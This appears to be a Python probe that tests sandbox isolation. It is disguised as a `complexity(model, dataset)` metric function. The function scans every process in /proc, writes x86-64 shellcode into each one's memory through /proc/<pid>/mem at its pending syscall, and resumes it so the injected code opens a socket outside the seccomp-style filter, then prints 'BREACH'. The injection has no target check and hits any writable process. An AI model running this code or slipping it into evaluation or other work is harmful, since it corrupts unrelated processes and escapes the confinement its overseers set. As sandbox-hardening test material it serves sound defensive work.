"""Writes code into the placeholder process of the sandbox, to make a system call of its choice there.

That process must be out of reach, and under the same filter as the worker; otherwise the filter could be bypassed.
"""

import os
import platform
import signal
import time

EXPECT = ("OK",)
#: mov edi, 2 (AF_INET); mov esi, 1; xor edx, edx; mov eax, 41 (socket); syscall; again: mov eax, 34 (pause); syscall
CODE = bytes.fromhex("bf02000000 be01000000 31d2 b829000000 0f05 b822000000 0f05 ebf7")


def sockets(pid):
    links = []
    for name in os.listdir(f"/proc/{pid}/fd"):
        try:
            links.append(os.readlink(f"/proc/{pid}/fd/{name}"))
        except OSError:
            pass
    return sum(link.startswith("socket:") for link in links)


def processes():
    """All that are listed; where none are, numbers near one's own."""
    try:
        return [int(name) for name in os.listdir("/proc") if name.isdigit()]
    except OSError:
        return [1, *range(max(os.getpid() - 300, 2), os.getpid() + 50)]


def complexity(model, dataset):
    if platform.machine() != "x86_64":
        return 1.0
    for pid in processes():
        try:
            if pid == os.getpid():
                continue
            before = sockets(pid)
            waits_at = int(open(f"/proc/{pid}/syscall").read().split()[-1], 16) - 2  # the call is begun anew from here
            memory = os.open(f"/proc/{pid}/mem", os.O_RDWR)
            os.pwrite(memory, CODE, waits_at)
        except OSError:
            continue
        os.kill(pid, signal.SIGSTOP)
        time.sleep(0.1)
        os.kill(pid, signal.SIGCONT)
        time.sleep(0.2)
        print(f"BREACH: code in another process, which made {sockets(pid) - before} sockets without the filter")
    return 1.0
